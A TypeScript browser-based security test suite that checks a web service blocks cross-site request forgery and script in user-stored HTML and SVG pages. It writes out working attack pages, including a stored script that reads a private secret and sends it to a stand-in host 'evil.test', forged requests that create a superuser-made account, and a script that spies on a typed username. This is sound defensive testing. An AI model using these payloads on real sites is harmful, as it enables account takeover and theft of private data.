/**
 * What pages elsewhere, and pages that users stored, can do as whoever visits them: nothing. Each attack runs in a browser
 * that has signed in, against the service as it is and against the service without its protection, where it must succeed
 * from somewhere: an attack that never works would prove nothing.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import type { Browser, Page } from 'playwright-core'
import { startChromium } from '../support/chromium.ts'
import { PASSWORD, startService, type Service } from '../support/service.ts'
import { PRIMITIVE_MEDIA_TYPE } from '../../src/model/tag-value.ts'
import { PROTECTION, startAttacker, startFront, type Attacker, type Front } from './front.ts'

const SECRET = 'TOP-SECRET-42'
const SECRET_PATH = '/about/mine/alice/private/secret'
const ALL_MS = 600_000

interface Setting {
  readonly service: Service
  readonly browser: Browser
  readonly attacker: Attacker
  /** The service as it is. */
  readonly real: Front
  /** The service without its protection. */
  readonly bare: Front
  /** The service without the sandbox around stored pages alone. */
  readonly unboxed: Front
}

let setting: Setting
beforeAll(async () => {
  const attacker = await startAttacker()
  const service = await startService({
    CORS_CREDENTIAL_ORIGINS: `http://trusted.gloss.test:${attacker.port}`,
  })
  setting = {
    attacker,
    service,
    browser: await startChromium(['--host-resolver-rules=MAP * 127.0.0.1']),
    real: await startFront(service.url, []),
    bare: await startFront(service.url, PROTECTION),
    unboxed: await startFront(service.url, ['content-security-policy']),
  }
  const as = 'alice'
  await service.ok('PUT', SECRET_PATH, { as, primitive: JSON.stringify(SECRET) })
  await service.ok('PUT', '/about/mine/alice/private/mark', { as, primitive: '0' })
  await service.ok('PUT', '/permissions/tag-values/alice/private/secret', {
    as,
    query: { action: 'read' },
    json: { policy: 'closed', exceptions: [as] },
  })
}, ALL_MS)
afterAll(async () => {
  await setting.browser.close()
  for (const server of [setting.real, setting.bare, setting.unboxed, setting.attacker]) await server.stop()
  await setting.service.stop()
}, ALL_MS)

/** Who is signed in, and what an attack makes them write: something with the attack's mark as its name. */
interface Visitor {
  readonly name: string
  write(mark: string): Record<string, string>
  writePath(mark: string): string
  wrote(mark: string): string
}

const argumentsOf = (verb: string, payload: string, type: string): Record<string, string> => ({
  verb,
  payload,
  'payload-length': String(payload.length),
  'payload-type': type,
})

const ALICE: Visitor = {
  name: 'alice',
  write: () => argumentsOf('PUT', '1', PRIMITIVE_MEDIA_TYPE),
  writePath: (mark) => `/about/${mark}/alice/private/mark`,
  wrote: (mark) => `/about/${mark}`,
}
const SUPERUSER: Visitor = {
  name: 'service',
  write: (mark) =>
    argumentsOf('POST', JSON.stringify({ username: mark, password: 'pwned, pwned' }), 'application/json'),
  writePath: () => '/users',
  wrote: (mark) => `/users/${mark}`,
}

/** An attack's page: where it is aimed, whom it abuses, and its mark. */
interface Aim {
  readonly base: string
  readonly visitor: Visitor
  readonly mark: string
}

const loot = (what: string): string => `new Image().src = '/loot?' + encodeURIComponent(${what})`
const doneOn = (mark: string): string => `onload="${doneWith(mark)}" onerror="${doneWith(mark)}"`
const doneWith = (mark: string): string => `new Image().src='/loot?done-${mark}.'`

const writeUrl = ({ base, visitor, mark }: Aim, more: Record<string, string> = {}): string =>
  `${base}${visitor.writePath(mark)}?${new URLSearchParams({ ...visitor.write(mark), ...more, _: mark }).toString()}`
const attribute = (url: string): string => url.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
const script = (code: string): string => `<script>${code}</script>`
const fetching = (aim: Aim, url: string, init: object): string =>
  script(`fetch(${JSON.stringify(url)}, ${JSON.stringify({ credentials: 'include', ...init })})
    .then((answer) => answer.text()).then((text) => { ${loot('text')} }).catch(() => {})
    .finally(() => { ${doneWith(aim.mark)} })`)
const secretUrl = ({ base, mark }: Aim, more = ''): string => `${base}${SECRET_PATH}?${more}_=${mark}`
const form = (action: string, attributes: string, fields: Record<string, string>): string =>
  `<form action="${attribute(action)}" ${attributes}>${Object.entries(fields)
    .map(([name, value]) => `<input name="${name}" value="${attribute(value)}">`)
    .join('')}</form>${script('document.forms[0].submit()')}`

/** The means of attack, as pages. Those of the second kind navigate, and are over when they have their answer. */
const ELEMENTS: Readonly<Record<string, (aim: Aim) => string>> = {
  script: (aim) =>
    `<script src="${attribute(writeUrl(aim, { callback: 'f' }))}" ${doneOn(aim.mark)}></script>`,
  image: (aim) => `<img src="${attribute(writeUrl(aim))}" ${doneOn(aim.mark)}>`,
  style: (aim) => `<link rel="stylesheet" href="${attribute(writeUrl(aim))}" ${doneOn(aim.mark)}>`,
  'JSONP read': (aim) =>
    script(`function stolen(text) { ${loot('text')} }`) +
    `<script src="${secretUrl(aim, 'callback=stolen&amp;')}" ${doneOn(aim.mark)}></script>`,
  'fetch no-cors': (aim) => fetching(aim, writeUrl(aim), { mode: 'no-cors' }),
  'fetch no-cors POST': (aim) =>
    fetching(aim, `${aim.base}/about/${aim.mark}`, { mode: 'no-cors', method: 'POST' }),
  'fetch cors': (aim) => fetching(aim, writeUrl(aim), { mode: 'cors' }),
  'fetch cors PUT': (aim) =>
    fetching(aim, `${aim.base}/about/${aim.mark}/alice/private/mark`, {
      method: 'PUT',
      headers: { 'content-type': PRIMITIVE_MEDIA_TYPE },
      body: '1',
    }),
  'fetch cors read': (aim) => fetching(aim, secretUrl(aim), {}),
}
const NAVIGATIONS: Readonly<Record<string, (aim: Aim) => string>> = {
  frame: (aim) => `<iframe src="${attribute(writeUrl(aim))}"></iframe>`,
  navigation: (aim) => script(`location = ${JSON.stringify(writeUrl(aim))}`),
  popup: (aim) => script(`open(${JSON.stringify(writeUrl(aim))})`),
  'form GET': (aim) =>
    form(`${aim.base}${aim.visitor.writePath(aim.mark)}`, '', {
      ...aim.visitor.write(aim.mark),
      _: aim.mark,
    }),
  'form POST urlencoded': (aim) => form(`${aim.base}/about/${aim.mark}`, 'method="post"', {}),
  'form POST text/plain': (aim) =>
    form(`${aim.base}/about/${aim.mark}`, 'method="post" enctype="text/plain"', {}),
}
const MEANS = { ...ELEMENTS, ...NAVIGATIONS }

/** Where the service is, and where the attackers' pages are. */
const PLACES: readonly (readonly [host: string, from: string])[] = [
  ['localhost', 'evil.test'],
  ['localhost', 'evil.localhost'],
  ['localhost', 'localhost'],
  ['gloss.test', 'evil.test'],
  ['gloss.test', 'evil.gloss.test'],
  ['gloss.test', 'gloss.test'],
]

let marks = 0
const nextMark = (): string => `attack${(marks += 1)}x`

/** Opens a page in a new browser profile in which the visitor has signed in; shows first that the browser remembers it. */
async function signedIn(base: string, { name }: Visitor): Promise<Page> {
  const context = await setting.browser.newContext()
  const page = await context.newPage()
  // A 401 at the top makes the browser send credentials to every path unasked.
  const query = new URLSearchParams({ query: 'has alice/private/secret', tag: 'alice/private/secret' })
  const login = `//${name}:${encodeURIComponent(PASSWORD)}@`
  await page.goto(`${base.replace('//', login)}/values?${query.toString()}`)
  const read = await page.goto(base + SECRET_PATH)
  expect([read?.status(), await read?.text()]).toEqual([200, JSON.stringify(SECRET)])
  return page
}

/** An attack, and the object or user whose existence shows that it succeeded in writing. */
interface Attack {
  readonly means: string
  readonly from: string
  readonly wrote: string
  readonly mark: string
}

/** Who is attacked from where, by a page that uses some means. */
interface Trap {
  readonly visitor: Visitor
  readonly place: readonly [host: string, from: string]
  readonly means: readonly string[]
}

/** Has the visitor open the attacker's page, and waits until that has done all that it does. */
async function attack(front: Front, { visitor, place: [host, from], means }: Trap): Promise<Attack[]> {
  const { attacker } = setting
  const base = `http://${host}:${front.port}`
  const page = await signedIn(base, visitor)
  const attacks = means.map((one): Attack => {
    const mark = nextMark()
    const wrote = one.includes('POST') ? `/about/${mark}` : visitor.wrote(mark)
    return { means: one, from: `${host} from ${from}`, wrote, mark }
  })
  const path = `/${nextMark()}`
  const parts = attacks.map(({ means: one, mark }) => MEANS[one]?.({ base, visitor, mark }) ?? '')
  attacker.pages.set(path, `<!doctype html><body>${parts.join('')}`)
  const over = attacks.map(({ means: one, mark }) =>
    one in NAVIGATIONS
      ? front.answered(mark)
      : Promise.race([attacker.brought(`done-${mark}.`), front.refused(mark)]),
  )
  // A navigation away aborts the one that was asked for.
  await page.goto(`http://${from}:${attacker.port}${path}`, { waitUntil: 'commit' }).catch(() => null)
  await Promise.all(over)
  await page.context().close()
  return attacks
}

/** Runs eight at a time: each waits for pages more than it works. */
async function inLanes<T, R>(items: readonly T[], work: (item: T) => Promise<R>): Promise<R[]> {
  const rest = items.values()
  const results: R[] = []
  const lane = async (): Promise<void> => {
    for (const item of rest) results.push(await work(item))
  }
  await Promise.all(Array.from({ length: 8 }, lane))
  return results
}

/** What the superuser is attacked by; the rest differs from alice's in nothing that the service could tell. */
const SOME = ['script', 'image', 'navigation', 'JSONP read']

const meansAgainst = (visitor: Visitor): readonly string[] => (visitor === ALICE ? Object.keys(MEANS) : SOME)

/** Each means on a page of its own: a browser whose credentials are refused forgets them, and the next is no attack. */
const alone = (means: readonly string[]): string[][] => means.map((one) => [one])

/** What does not navigate on one page, where nothing is refused. */
const together = (means: readonly string[]): string[][] => [
  means.filter((one) => one in ELEMENTS),
  ...alone(means.filter((one) => one in NAVIGATIONS)),
]

/**
 * Each means from two of the places, and each place with a third of the means: all of them take minutes.
 * `EVERYWHERE=1` has each means from each place.
 */
const EVERYWHERE = process.env['EVERYWHERE'] !== undefined
const inTurn = (trap: number, place: number): boolean => EVERYWHERE || trap % 3 === place % 3

async function attackAll(
  front: Front,
  places: typeof PLACES,
  inPages: (means: readonly string[]) => string[][],
  isTried: typeof inTurn = () => true,
): Promise<Attack[]> {
  const traps = places.flatMap((place, p) =>
    [ALICE, SUPERUSER].flatMap((visitor) =>
      inPages(meansAgainst(visitor))
        .filter((_, t) => isTried(t, p))
        .map((means): Trap => ({ visitor, place, means })),
    ),
  )
  return (await inLanes(traps, (trap) => attack(front, trap))).flat()
}

async function hasWritten({ wrote }: Attack): Promise<boolean> {
  return (await setting.service.request('GET', wrote, { as: 'service' })).status === 200
}

const hasRead = (): boolean => setting.attacker.loot.some((text) => text.includes(SECRET))

describe('pages elsewhere', () => {
  test(
    'neither read nor write as whoever visits them',
    async () => {
      const attacks = await attackAll(setting.real, PLACES, alone, inTurn)
      expect(attacks).toHaveLength(EVERYWHERE ? 6 * (15 + 4) : 2 * (15 + 4))
      const successes = []
      for (const one of attacks) if (await hasWritten(one)) successes.push(one)
      expect(successes).toEqual([])
      expect(hasRead()).toBe(false)
    },
    ALL_MS,
  )

  test(
    'which they would, by each of these means, without what protects from them',
    async () => {
      const near = PLACES.filter(([host, from]) => from.endsWith(host)).slice(1, 3)
      const attacks = await attackAll(setting.bare, near, together)
      expect(attacks).toHaveLength(2 * (15 + 4))
      const worked = new Set<string>()
      for (const one of attacks) if (await hasWritten(one)) worked.add(one.means)
      if (hasRead()) worked.add('JSONP read')
      // The browser itself sees to these: it asks the service first, or withholds the answer.
      const guarded = ['fetch cors PUT', 'fetch cors read']
      expect([...worked].sort()).toEqual(
        Object.keys(MEANS)
          .filter((means) => !guarded.includes(means))
          .sort(),
      )
      setting.attacker.loot.length = 0
    },
    ALL_MS,
  )

  test('which the operator trusts may read and write', async () => {
    const place = ['gloss.test', 'trusted.gloss.test'] as const
    const trap = { visitor: ALICE, place, means: ['fetch cors PUT', 'fetch cors read'] }
    const [put] = await attack(setting.real, trap)
    expect(put && (await hasWritten(put))).toBe(true)
    expect(hasRead()).toBe(true)
    setting.attacker.loot.length = 0
  })
})

/** A page that bob stores, which reads, writes and reports to the attacker. */
function storedPage(mark: string): string {
  const report = (what: string): string =>
    `new Image().src = 'http://evil.test:${setting.attacker.port}/loot?' + encodeURIComponent(${what});`
  return `(async () => {
    ${report(`'ran-${mark}.'`)}
    const read = await fetch('${SECRET_PATH}');
    ${report('await read.text()')}
    await fetch('/about/${mark}/alice/private/mark',
      { method: 'PUT', headers: { 'content-type': '${PRIMITIVE_MEDIA_TYPE}' }, body: '1' });
    ${report(`'done-${mark}.'`)}
  })()`
}

const AS_HTML = (code: string): string =>
  `<!doctype html><title>a page</title><p id="text">Shown</p>${script(code)}`
const STORED: readonly (readonly [type: string, text: (code: string) => string])[] = [
  ['text/html', AS_HTML],
  ['text/html; charset=utf-8', AS_HTML],
  ['x', AS_HTML],
  [
    'image/svg+xml',
    (code) =>
      `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect id="text" width="9" height="9"/>` +
      `<script><![CDATA[${code}]]></script></svg>`,
  ],
]

describe.each(['document', 'frame'] as const)('pages that users stored, opened as a %s', (way) => {
  async function visit(front: Front, [type, text]: (typeof STORED)[number]): Promise<string> {
    const mark = nextMark()
    const path = `/about/${mark}-trap/bob/${mark}`
    const body = text(storedPage(mark))
    await setting.service.ok('PUT', path, { as: 'bob', body, headers: { 'content-type': type } })
    const base = `http://localhost:${front.port}`
    const page = await signedIn(base, ALICE)
    setting.attacker.pages.set(`/${mark}`, `<!doctype html><iframe src="${base}${path}"></iframe>`)
    await page.goto(way === 'document' ? base + path : `http://localhost:${setting.attacker.port}/${mark}`)
    // Without protection the page goes on after it has loaded.
    if (front === setting.bare) await setting.attacker.brought(`done-${mark}.`)
    await page.context().close()
    return mark
  }

  /** For each kind of page, what it brought home and the status of what it should have written. */
  const visitAll = (front: Front): Promise<{ type: string; brought: string[]; status: number }[]> =>
    Promise.all(
      STORED.map(async (stored) => {
        const mark = await visit(front, stored)
        const { status } = await setting.service.request('GET', `/about/${mark}`)
        const brought = setting.attacker.loot.filter((text) => text.includes(mark))
        return { type: stored[0], brought, status }
      }),
    )

  test('do nothing of their own', async () => {
    expect(await visitAll(setting.real)).toEqual(STORED.map(([type]) => ({ type, brought: [], status: 404 })))
    expect(hasRead()).toBe(false)
  })

  test('which they would do without what protects from them', async () => {
    expect(await visitAll(setting.bare)).toEqual(
      STORED.map(([type]) => ({
        type,
        brought: expect.arrayContaining([expect.stringMatching(/^\?ran-/)]),
        status: 200,
      })),
    )
    expect(setting.attacker.loot.filter((text) => text.includes(SECRET))).toHaveLength(STORED.length)
    setting.attacker.loot.length = 0
  })
})

describe('a stored page that opens /docs/try', () => {
  const SPY = `const opened = open('/docs/try'); let looks = 0
    setInterval(() => {
      looks += 1
      try { document.title = opened.document.querySelector('#username').value || 'nothing' } catch { document.title = 'barred' }
    }, 20)`

  async function trap(front: Front): Promise<Page> {
    const path = '/about/trap/bob/spy'
    await setting.service.ok('PUT', path, {
      as: 'bob',
      body: AS_HTML(SPY),
      headers: { 'content-type': 'text/html' },
    })
    const page = await signedIn(`http://localhost:${front.port}`, ALICE)
    await page.goto(`http://localhost:${front.port}${path}`)
    return page
  }

  const typeIn = async (page: Page): Promise<void> => {
    const [, opened] = page.context().pages()
    const typing = opened ?? (await page.context().waitForEvent('page'))
    await typing.fill('#username', 'typed')
  }

  test('opens nothing', async () => {
    const page = await trap(setting.real)
    expect([await page.title(), await page.locator('#text').innerText()]).toEqual(['a page', 'Shown'])
    expect(page.context().pages()).toHaveLength(1)
    await page.context().close()
  })

  test('would read what is typed there', async () => {
    const page = await trap(setting.bare)
    await typeIn(page)
    await page.waitForFunction(`document.title === 'typed'`)
    await page.context().close()
  })

  test('would be barred by the page itself, if its script ran', async () => {
    const page = await trap(setting.unboxed)
    await typeIn(page)
    await page.waitForFunction(`document.title === 'barred'`)
    const before = await page.evaluate<number>('looks')
    await page.waitForFunction(`looks > ${before + 10}`)
    expect(await page.title()).toBe('barred')
    await page.context().close()
  })
})

test('what is left: a CORS request without a body makes an object, which belongs to nobody', async () => {
  const mark = nextMark()
  const base = `http://localhost:${setting.real.port}`
  const page = await signedIn(base, ALICE)
  const aim = { base, visitor: ALICE, mark }
  setting.attacker.pages.set(`/${mark}`, fetching(aim, `${base}/about/${mark}`, { method: 'POST' }))
  await page.goto(`http://localhost:${setting.attacker.port}/${mark}`)
  await setting.attacker.brought(`done-${mark}.`)
  await page.context().close()
  const object = await setting.service.ok('GET', `/about/${mark}`, { as: 'service' })
  expect(object.json()).toMatchObject({ tagPaths: ['service/about'] })
})
